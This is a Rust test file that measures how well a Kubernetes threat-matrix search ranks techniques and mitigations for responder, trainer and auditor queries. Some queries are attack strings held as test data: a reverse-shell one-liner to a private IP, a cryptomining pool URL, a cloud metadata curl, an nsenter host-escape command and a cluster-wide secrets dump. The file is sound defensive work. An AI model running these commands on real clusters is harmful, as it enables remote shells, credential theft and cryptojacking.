//! Relevance suite: queries as responders, trainers and auditors type them, each with the
//! entity that must rank in the top three. Prints hit@1 and hit@3; fails under 90 % hit@3.
//!
//! Run `cargo test --test search_relevance -- --nocapture` to see the table.

use ktm::matrix::{MatrixSource, load_matrix};
use ktm::search::{SearchIndex, SearchOptions};

/// (query, the entity that must be in the top three)
const CASES: &[(&str, &str)] = &[
    // Symptoms seen during an incident.
    ("xmrig pod", "MS-TA9039"),
    ("cryptominer on nodes", "MS-TA9039"),
    (
        "node cpu pinned at 100% autoscaler adding nodes",
        "MS-TA9039",
    ),
    ("someone exec'd into a pod", "MS-TA9006"),
    ("interactive shell spawned in container", "MS-TA9007"),
    (
        "new daemonset in kube-system from unknown registry",
        "MS-TA9008",
    ),
    ("pod with nodeName set created by unknown user", "MS-TA9008"),
    ("namespace deleted", "MS-TA9038"),
    ("persistent volumes wiped", "MS-TA9038"),
    ("pods oomkilled api server unresponsive", "MS-TA9040"),
    ("logs deleted from /var/log/pods", "MS-TA9021"),
    ("events disappeared from namespace", "MS-TA9022"),
    ("fake coredns pod in kube-system", "MS-TA9023"),
    ("api calls from tor exit node", "MS-TA9024"),
    ("password in environment variables", "MS-TA9027"),
    ("kubeconfig leaked on github", "MS-TA9003"),
    ("backdoored image on docker hub", "MS-TA9002"),
    ("exposed kubernetes dashboard", "MS-TA9005"),
    ("sshd running in container", "MS-TA9010"),
    ("sidecar injected into deployment", "MS-TA9011"),
    ("cronjob runs every minute", "MS-TA9014"),
    ("pod scanning the cluster network", "MS-TA9031"),
    ("static pod appeared on node", "MS-TA9017"),
    ("container escaped to the node", "MS-TA9013"),
    // Tool names and commands.
    ("xmrig", "MS-TA9039"),
    ("kubectl exec", "MS-TA9006"),
    ("nmap", "MS-TA9031"),
    ("arpspoof", "MS-TA9036"),
    ("ettercap", "MS-TA9036"),
    ("kube-hunter", "MS-TA9031"),
    ("peirates", "MS-TA9029"),
    ("kubeletctl", "MS-TA9030"),
    ("skopeo copy private image", "MS-TA9037"),
    ("nsenter -t 1 -m -u -i -n", "MS-TA9018"),
    ("kubectl auth can-i --list", "MS-TA9029"),
    ("kubectl get secrets -A", "MS-TA9025"),
    ("kubectl delete events --all", "MS-TA9022"),
    ("kubectl cp data out of pod", "MS-TA9041"),
    ("az aks get-credentials from unknown ip", "MS-TA9001"),
    ("velero backup", "MS-M9031"),
    ("cosign image signing", "MS-M9005"),
    ("distroless", "MS-M9012"),
    // Log lines, paths, addresses and ports.
    ("169.254.169.254", "MS-TA9033"),
    ("curl metadata.google.internal", "MS-TA9033"),
    ("stratum+tcp://pool.minexmr.com:4444", "MS-TA9039"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "MS-TA9007"),
    ("pods/exec create", "MS-TA9006"),
    ("kubelet 10250", "MS-TA9030"),
    ("anonymous kubelet read-only port 10255", "MS-TA9030"),
    (
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "MS-TA9016",
    ),
    ("/etc/kubernetes/manifests", "MS-TA9017"),
    ("privileged: true", "MS-TA9018"),
    ("hostPath mount of / with chroot /host", "MS-TA9013"),
    ("docker.sock mounted", "MS-TA9013"),
    ("azure.json aadClientSecret", "MS-TA9026"),
    ("system:masters", "MS-TA9019"),
    ("mutatingwebhookconfiguration created", "MS-TA9015"),
    (
        "GuardDuty CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        "MS-TA9039",
    ),
    ("imagePullSecrets", "MS-TA9037"),
    ("jndi ldap", "MS-TA9009"),
    ("log4shell rce", "MS-TA9009"),
    // ATT&CK and matrix ids.
    ("T1610", "MS-TA9008"),
    ("t1609", "MS-TA9006"),
    ("T1496", "MS-TA9039"),
    ("T1552.007", "MS-TA9025"),
    ("MS-TA9018", "MS-TA9018"),
    ("9018", "MS-TA9018"),
    ("ta9013", "MS-TA9013"),
    ("MS-M9013", "MS-M9013"),
    ("M1038", "MS-M9013"),
    ("TA0007", "discovery"),
    // Misspellings.
    ("privilaged contianer", "MS-TA9018"),
    ("kuberentes secrets", "MS-TA9025"),
    ("cronjb", "MS-TA9014"),
    ("mutating webhok", "MS-TA9015"),
    ("cryptojackng", "MS-TA9039"),
    ("corednss poisoning", "MS-TA9035"),
    // Partial words, as typed.
    ("sidec", "MS-TA9011"),
    ("arp spoo", "MS-TA9036"),
    ("clusterrolebind", "MS-TA9019"),
    ("instance metad", "MS-TA9033"),
    ("kubel", "MS-TA9030"),
    // Trainers and auditors: controls and concepts.
    ("how attackers steal service account tokens", "MS-TA9016"),
    ("restrict kubectl exec", "MS-M9010"),
    ("network policy default deny", "MS-M9014"),
    ("pod security admission baseline restricted", "MS-M9017"),
    ("seccomp apparmor profile", "MS-M9011"),
    ("automountServiceAccountToken false", "MS-M9025"),
    ("etcd encryption at rest", "MS-M9024"),
    ("limitrange resourcequota", "MS-M9029"),
    ("mfa for cluster access", "MS-M9001"),
    ("authorized ip ranges for the api server", "MS-M9002"),
    ("least privilege rbac", "MS-M9003"),
    ("IMDSv2 hop limit", "MS-M9018"),
    ("noderestriction admission plugin", "MS-M9027"),
    ("persistence", "persistence"),
    ("lateral movement", "lateral-movement"),
];

#[test]
fn responders_find_the_right_entity() {
    let loaded = load_matrix(&MatrixSource::Embedded, &[]).expect("embedded matrix");
    for (_, expected) in CASES {
        assert!(
            loaded.matrix.find(expected).is_some(),
            "{expected} is not in the matrix"
        );
    }
    let index = SearchIndex::from_matrix(&loaded.matrix).expect("index");
    let options = SearchOptions {
        limit: 3,
        ..SearchOptions::default()
    };
    let (mut at1, mut at3) = (0usize, 0usize);
    let mut misses = Vec::new();
    for (query, expected) in CASES {
        let top: Vec<String> = index
            .search(query, &options)
            .expect("search")
            .into_iter()
            .map(|h| h.id)
            .collect();
        let rank = top.iter().position(|id| id == expected);
        match rank {
            Some(0) => at1 += 1,
            Some(_) => {}
            None => misses.push(format!("{query:?}: want {expected}, got {top:?}")),
        }
        if rank.is_some() {
            at3 += 1;
        }
        println!("{:<55} {:<12} {top:?}", format!("{query:?}"), expected);
    }
    let n = CASES.len();
    let rate = |k: usize| {
        100.0 * f64::from(u32::try_from(k).unwrap_or(u32::MAX))
            / f64::from(u32::try_from(n).unwrap_or(u32::MAX))
    };
    println!(
        "\n{n} queries: hit@1 {:.1} %, hit@3 {:.1} %",
        rate(at1),
        rate(at3)
    );
    for miss in &misses {
        println!("miss {miss}");
    }
    assert!(n >= 60);
    assert!(rate(at3) >= 90.0, "hit@3 {:.1} % < 90 %", rate(at3));
}

/// The queries the issue names must put their entity first, not merely in the top three.
#[test]
fn named_queries_rank_their_entity_first() {
    let loaded = load_matrix(&MatrixSource::Embedded, &[]).expect("embedded matrix");
    let index = SearchIndex::from_matrix(&loaded.matrix).expect("index");
    for (query, expected) in [
        ("xmrig", "MS-TA9039"),
        ("t1610", "MS-TA9008"),
        ("9018", "MS-TA9018"),
    ] {
        let hits = index
            .search(query, &SearchOptions::default())
            .expect("search");
        assert_eq!(
            hits.first().map(|h| h.id.as_str()),
            Some(expected),
            "{query}"
        );
    }
}
